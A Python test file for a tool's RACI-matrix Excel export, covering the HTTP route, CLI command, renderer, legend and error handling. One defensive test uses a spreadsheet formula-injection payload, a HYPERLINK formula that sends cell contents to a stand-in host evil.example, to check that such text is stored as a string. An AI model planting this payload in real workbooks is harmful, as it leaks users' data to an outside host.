"""The RACI matrix as a workbook: ``GET /raci.xlsx`` over real HTTP on the demo organisation,
``rolegraph raci`` as a process, and the renderer on its own; every workbook is read back with
openpyxl (values, fills, merged headers, freeze panes, the legend)."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
from api_client import demo_rows
from browser import artifacts, rendered, screenshot
from cli_client import rolegraph_on
from conftest import GraphHandle, LiveServer

from domain.boundary import RaciColumn, RaciMatrix, RaciRow
from reports.pictures import sheet_html
from reports.raci_workbook import FIXED, LEGEND, MEDIA_TYPE, PROBLEM_FILL, ROLE_COLOURS, render

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def argb(colour: str) -> str:
    """``#9BC2E6`` as openpyxl reports a fill: ``FF9BC2E6``."""
    return "FF" + colour.lstrip("#").upper()


def workbook(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def fill(cell: Any) -> str | None:
    """A cell's solid fill colour (ARGB), None when it has none."""
    return str(cell.fill.fgColor.rgb) if cell.fill.fill_type == "solid" else None


class Sheet:
    """The RACI sheet read back: header rows, then a row per responsibility."""

    def __init__(self, book: Any) -> None:
        self.ws = book["RACI"]
        rows = list(self.ws.iter_rows())
        self.departments = rows[0]
        self.header = [c.value for c in rows[1]]
        self.positions = [str(v).split("\n")[0] for v in self.header[len(FIXED):]]
        self.rows = {str(r[0].value): r for r in rows[2:]}

    def cell(self, responsibility: str, position: str) -> Any:
        return self.rows[responsibility][len(FIXED) + self.positions.index(position)]

    def roles(self) -> dict[str, dict[str, str]]:
        """responsibility -> position -> roles, as the cells show them."""
        return {r: {p: str(c.value) for p, c in zip(self.positions, row[len(FIXED):],
                                                   strict=True) if c.value}
                for r, row in self.rows.items()}

    def groups(self) -> list[tuple[str, list[str]]]:
        """The merged department headers: (name, the position ids under it), left to right."""
        spans = {m.min_col: m.max_col for m in self.ws.merged_cells.ranges if m.min_row == 1}
        out, col = [], len(FIXED) + 1
        while col <= len(self.header):
            last = spans.get(col, col)
            out.append((str(self.ws.cell(1, col).value),
                        self.positions[col - len(FIXED) - 1:last - len(FIXED)]))
            col = last + 1
        return out


def raci_csv(client: httpx.Client, **params: str) -> dict[str, dict[str, str]]:
    """responsibility -> position -> roles, from /raci.csv (the same matrix)."""
    response = client.get("/raci.csv", params=params)
    assert response.status_code == 200, response.text
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    ids = [h.split()[0] for h in table[0][3:]]
    return {row[0]: {p: v for p, v in zip(ids, row[3:], strict=True) if v} for row in table[1:]}


def demo_tree() -> list[str]:
    """The demo's departments in tree order (pre-order, children by id), from its file."""
    children: dict[str, list[str]] = {}
    for d in demo_rows("departments.csv"):
        children.setdefault(d["parent_id"], []).append(d["id"])
    order: list[str] = []

    def visit(parent: str) -> None:
        for child in sorted(children.get(parent, [])):
            order.append(child)
            visit(child)

    visit("")
    return order


def download(client: httpx.Client, **params: str) -> httpx.Response:
    response = client.get("/raci.xlsx", params=params)
    assert response.status_code == 200, response.text
    return response


def test_the_workbook_of_a_department(demo_server: LiveServer) -> None:
    """组装部 (D10): the same cells as /raci.csv, roles filled with their colours, 零件清点
    (planted: no A) highlighted with its problem, the department's positions under one merged
    header, then the other departments' holders in tree order; panes frozen below the
    headers and right of the responsibility columns."""
    response = download(demo_server.client, department="D10")
    assert response.headers["content-type"] == MEDIA_TYPE
    assert response.headers["content-disposition"] == \
        "attachment; filename=\"raci-D10.xlsx\"; filename*=UTF-8''raci-D10.xlsx"
    book = workbook(response.content)
    assert book.sheetnames == ["RACI", LEGEND]
    sheet = Sheet(book)
    assert sheet.ws.freeze_panes == "E3"
    assert sheet.header[:4] == ["responsibility_id", "responsibility", "process", "problem"]
    assert sheet.ws["A1"].value == "RACI: 组装部 (D10)"
    assert sheet.roles() == raci_csv(demo_server.client, department="D10")

    own = sorted(p["id"] for p in demo_rows("positions.csv") if p["department_id"] == "D10")
    groups = sheet.groups()
    assert groups[0] == ("组装部", own)
    tree = demo_tree()
    names = {d["id"]: d["name"] for d in demo_rows("departments.csv")}
    dept_of = {p["id"]: p["department_id"] for p in demo_rows("positions.csv")}
    outside = [dept_of[ps[0]] for _, ps in groups[1:]]
    assert outside == sorted(outside, key=tree.index) and len(set(outside)) == len(outside)
    assert [n for n, _ in groups[1:]] == [names[d] for d in outside]
    assert all(dept_of[p] == d for (_, ps), d in zip(groups[1:], outside, strict=True)
               for p in ps)
    assert sheet.departments[len(FIXED) + len(own)].font.i  # outside headers: italic

    r0086 = sheet.rows["R0086"]
    assert [c.value for c in r0086[:4]] == ["R0086", "零件清点", "生产制造", "no A"]
    assert [fill(c) for c in r0086[:4]] == [argb(PROBLEM_FILL)] * 4
    assert sheet.cell("R0086", "P042").value == "R"
    assert fill(sheet.cell("R0086", "P042")) == argb(ROLE_COLOURS["R"])
    assert fill(sheet.cell("R0086", "P051")) == argb(ROLE_COLOURS["I"])
    assert fill(sheet.cell("R0086", "P044")) is None  # empty cell, no fill
    r0087 = sheet.rows["R0087"]  # 零部件外观检查: R P044, A P042, nothing wrong
    assert r0087[3].value is None and fill(r0087[0]) is None
    assert fill(sheet.cell("R0087", "P042")) == argb(ROLE_COLOURS["A"])
    problems = {r: row[3].value for r, row in sheet.rows.items() if row[3].value}
    assert problems == {"R0086": "no A"}


def test_two_accountable_and_no_responsible_are_highlighted(demo_server: LiveServer) -> None:
    """The process matrices holding the other planted RACI problems: 需求分析 (R0008, two A:
    P004 and P020) and 供应商年度评审 (R0038, no R); every column is in scope, departments
    in tree order; C is filled green."""
    sheet = Sheet(workbook(download(demo_server.client, process="产品开发").content))
    assert sheet.ws["A1"].value == "RACI: process 产品开发"
    row = sheet.rows["R0008"]
    assert row[3].value == "2 A" and fill(row[1]) == argb(PROBLEM_FILL)
    assert {p for p, r in sheet.roles()["R0008"].items() if "A" in r} == {"P004", "P020"}
    assert fill(sheet.cell("R0008", "P013")) == argb(ROLE_COLOURS["C"])
    ids = {d["name"]: d["id"] for d in demo_rows("departments.csv")}
    shown = [ids[n] for n, _ in sheet.groups()]
    assert shown == sorted(shown, key=demo_tree().index) and len(set(shown)) == len(shown)
    assert "D15" in shown and shown.index("D15") == shown.index("D06") + 1  # under 研究所
    assert all(not c.font.i for c in sheet.departments[len(FIXED):] if c.value)

    sheet = Sheet(workbook(download(demo_server.client, process="采购管理").content))
    assert sheet.rows["R0038"][3].value == "no R"
    assert sheet.roles() == raci_csv(demo_server.client, process="采购管理")


def test_the_legend(demo_server: LiveServer) -> None:
    """R, A, C and I in English and Chinese, each code filled with the colour the matrix
    uses; the problems explained."""
    legend = workbook(download(demo_server.client, department="D04").content)[LEGEND]
    rows = [[c.value for c in row] for row in legend.iter_rows()]
    assert rows[0][:3] == ["code", "role", "角色"]
    assert [r[:3] for r in rows[1:5]] == [["R", "Responsible", "负责"],
                                          ["A", "Accountable", "批准（负责到底）"],
                                          ["C", "Consulted", "咨询"], ["I", "Informed", "知会"]]
    assert [fill(legend.cell(r, 1)) for r in range(2, 6)] == \
        [argb(ROLE_COLOURS[k]) for k in "RACI"]
    problems = {r[0]: r for r in rows if r[0] in ("no A", "2 A", "no R")}
    assert set(problems) == {"no A", "2 A", "no R"}
    assert "无人批准（负责到底）" in problems["no A"]
    text = " ".join(str(v) for r in rows for v in r if v)
    assert "first role" in text and "tree order" in text


def test_the_workbook_needs_a_token_and_good_parameters(demo_server: LiveServer) -> None:
    """401 without a token; 400 naming the parameters for neither or both, unknown ids."""
    assert httpx.get(f"{demo_server.url}/raci.xlsx", params={"department": "D10"}).status_code \
        == 401
    c = demo_server.client
    for params, said in (({}, "give either ?department=<id> or ?process=<name>"),
                         ({"department": "D10", "process": "质量管理"}, "not both"),
                         ({"department": ""}, "give either"),
                         ({"department": "D99"}, "no Department with id 'D99'"),
                         ({"process": "炼金"}, "no responsibility belongs to the process")):
        response = c.get("/raci.xlsx", params=params)
        assert response.status_code == 400, (params, response.text)
        assert said in response.json()["detail"]


def test_every_role_gets_the_same_workbook_naming_no_one(demo_server: LiveServer) -> None:
    """The matrix is organisation structure, which every caller sees: an employee and a
    manager get the admin's cells, and no person's id or name is in any of them."""
    def cells(client: httpx.Client) -> list[list[Any]]:
        book = workbook(download(client, department="D10").content)
        return [[c.value for c in row] for ws in book for row in ws.iter_rows()]

    admin = cells(demo_server.client)
    for caller in (demo_server.as_("employee", sub="E0180"),
                   demo_server.as_("manager", sub="E0001")):
        assert cells(caller) == admin
    text = " ".join(str(v) for row in admin for v in row if v)
    assert not [e for e in demo_rows("employees.csv") if e["id"] in text or e["name"] in text]


# -- the renderer alone ------------------------------------------------------------------------

def test_text_is_never_a_formula() -> None:
    """A name, process or title starting like a formula is written as text (write_string):
    the cell reads back as a string, not a formula."""
    matrix = RaciMatrix(
        {"id": "D1", "name": "+部门"}, None,
        [RaciColumn({"id": "P1", "title": "@岗位"}, {"id": "D1", "name": "+部门"}, True)],
        [RaciRow({"id": "R1", "name": FORMULA, "process": "-1"}, {0: ["R", "A"]})])
    book = workbook(render(matrix, [{"id": "D1", "name": "+部门"}]))
    ws = book["RACI"]
    cells = [ws["B3"], ws["C3"], ws["E1"], ws["E2"]]
    assert [c.value for c in cells] == [FORMULA, "-1", "+部门", "P1\n@岗位"]
    assert all(c.data_type == "s" for c in cells)
    assert ws["E3"].value == "R/A" and fill(ws["E3"]) == argb(ROLE_COLOURS["R"])
    assert ws["D3"].value is None  # one A, one R: nothing wrong


# -- rolegraph raci ----------------------------------------------------------------------------

def rolegraph(graph: GraphHandle, *args: str) -> subprocess.CompletedProcess[str]:
    return rolegraph_on(graph, "raci", *args)


def test_the_command_writes_the_same_files(demo_graph: GraphHandle, demo_server: LiveServer,
                                           tmp_path: Path) -> None:
    """CSV to standard output (the route's text), a workbook to a file (the route's cells)."""
    done = rolegraph(demo_graph, "--department", "D10")
    assert done.returncode == 0, done.stderr
    assert done.stdout == demo_server.client.get(
        "/raci.csv", params={"department": "D10"}).content.decode("utf-8")
    out = tmp_path / "raci.xlsx"
    done = rolegraph(demo_graph, "--process", "质量管理", "--format", "xlsx", "--output",
                     str(out))
    assert done.returncode == 0, done.stderr
    got = workbook(out.read_bytes())
    served = workbook(download(demo_server.client, process="质量管理").content)
    assert [[c.value for c in r] for r in got["RACI"].iter_rows()] == \
        [[c.value for c in r] for r in served["RACI"].iter_rows()]


@pytest.mark.parametrize(("args", "said"), [
    (("--department", "D10", "--format", "xlsx"), "error: --format xlsx needs --output FILE"),
    (("--department", "D99"), "error: --department: no Department with id 'D99'"),
    (("--process", "炼金"), "error: --process: no responsibility belongs to the process"),
    (("--department", "D10", "--process", "质量管理"), "not allowed with argument"),
    ((), "one of the arguments --department --process is required"),
])
def test_the_command_refuses_bad_usage(demo_graph: GraphHandle, args: tuple[str, ...],
                                       said: str, tmp_path: Path) -> None:
    """Usage errors exit 2 with one line naming the option, and no traceback."""
    done = rolegraph(demo_graph, *args)
    assert done.returncode == 2, done.stderr
    assert said in done.stderr and "Traceback" not in done.stderr
    assert done.stdout == ""



# -- the README's picture ----------------------------------------------------------------------

def test_the_picture_of_the_workbook(demo_server: LiveServer) -> None:
    """reports/pictures.py draws the real workbook's sheet (values, fills, merged headers) as
    HTML: Chromium shows 组装部's cells with their role colours and 零件清点's highlight. The
    workbook and the screenshot are kept as artefacts (``python -m reports.pictures
    artifacts/screenshots/raci-D10.xlsx docs/raci-workbook.png`` makes the README's)."""
    content = download(demo_server.client, department="D10").content
    kept = artifacts() / "raci-D10.xlsx"
    kept.write_bytes(content)
    page = kept.with_suffix(".html")
    page.write_text(sheet_html(content, "RACI"), encoding="utf-8")
    dom = rendered(page.as_uri())
    assert 'colspan="4"' in dom and "组装部" in dom  # the title, the merged department header
    assert "零件清点" in dom and "no A" in dom
    for colour in (*ROLE_COLOURS.values(), PROBLEM_FILL):
        assert f"BACKGROUND:{colour.upper()}" in dom.upper().replace(" ", "")
    assert screenshot(page.as_uri(), "raci-workbook", size=(1500, 560)).stat().st_size > 10_000
